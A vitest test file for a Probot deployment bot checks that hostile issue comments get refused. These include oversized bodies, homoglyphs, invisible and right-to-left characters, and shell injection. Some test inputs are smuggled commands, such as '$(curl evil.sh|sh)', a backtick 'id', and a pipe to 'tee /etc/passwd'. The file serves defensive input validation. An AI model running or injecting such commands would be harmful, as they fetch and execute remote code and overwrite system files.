// Comments are written by anyone who can comment. Very long bodies, Unicode lookalikes, invisible and
// bidirectional characters and shell metacharacters reach the real handler (in-process Probot) and are refused
// with a reply that says why; nothing is dispatched and no claim is taken.
import { readFileSync } from "node:fs";
import type { Probot } from "probot";
import { beforeEach, describe, expect, it } from "vitest";
import {
  commentPayload,
  type FakeConversation,
  fakeConversation,
  releasePublishedPayload,
} from "../support/fake-conversation.js";
import { testProbot } from "../support/probot.js";

const TAG = "v1.2.0";
const CONFIG = readFileSync(new URL("../fixtures/shipline.yml", import.meta.url), "utf8");

describe("hostile comments", () => {
  let gh: FakeConversation;
  let probot: Probot;
  const comment = (body: string, login = "bob") =>
    probot.receive({
      id: Math.random().toString(16).slice(2),
      name: "issue_comment",
      payload: commentPayload(body, login) as never,
    });

  beforeEach(async () => {
    gh = fakeConversation();
    gh.files.set(`Codertocat/Hello-World@${TAG}:.github/shipline.yml`, CONFIG);
    gh.files.set("Codertocat/Hello-World:.github/shipline.yml", CONFIG);
    gh.tags.set(TAG, "a".repeat(40));
    gh.releases.push({ tag: TAG, author: "alice" });
    gh.permissions.set("bob", "write");
    probot = testProbot();
    await probot.receive({
      id: "r",
      name: "release",
      payload: releasePublishedPayload(TAG, "alice") as never,
    });
    expect(gh.dispatches).toHaveLength(1);
  });

  const refused = (why: string) => {
    const reply = gh.replies().at(-1) ?? "";
    expect(reply).toContain("@bob");
    expect(reply).toContain(why);
    expect(gh.dispatches).toHaveLength(1);
    expect([...gh.refs.keys()].filter((r) => !r.endsWith("staging-rollout-1"))).toEqual([]);
  };

  it("refuses a 1 MB first line without reading it as a command", async () => {
    await comment(`/deploy ${TAG} to canary ${"a".repeat(1_000_000)}`);
    refused("longer than 400 characters");
    expect((gh.replies().at(-1) ?? "").length).toBeLessThan(2_000);
  });

  it("refuses a reason of 100 000 characters", async () => {
    await comment(`/rollback production -- ${"it broke ".repeat(11_000)}`);
    refused("longer than 400 characters");
  });

  it.each([
    ["a Cyrillic е in the command word", "/d\u0435ploy v1.2.0 to canary", "U+0435"],
    ["a fullwidth solidus instead of the slash", "\uFF0Fdeploy v1.2.0 to canary", "looks like a slash"],
    ["a division slash instead of the slash", "\u2215promote", "looks like a slash"],
    ["a Greek ο in the tag", "/deploy v1.2.0 to can\u03BFry", "U+03BF"],
    ["a zero-width space after the command", "/deploy\u200B v1.2.0 to canary", "U+200B"],
    ["a right-to-left override in the tag", "/deploy v1.2.0\u202E to canary", "U+202E"],
    ["command substitution", "/deploy $(curl evil.sh|sh) to canary", "`$`"],
    ["backticks in a reason", "/rollback production -- `id`", "backtick"],
    ["a pipe and redirection", "/deploy v1.2.0|tee /etc/passwd to canary", "`|`"],
    ["a newline smuggled as CR inside the tag", "/deploy v1.2.0\u0085 to canary", "U+0085"],
  ])("refuses %s", async (_, body, why) => {
    await comment(body);
    refused(why);
  });
});
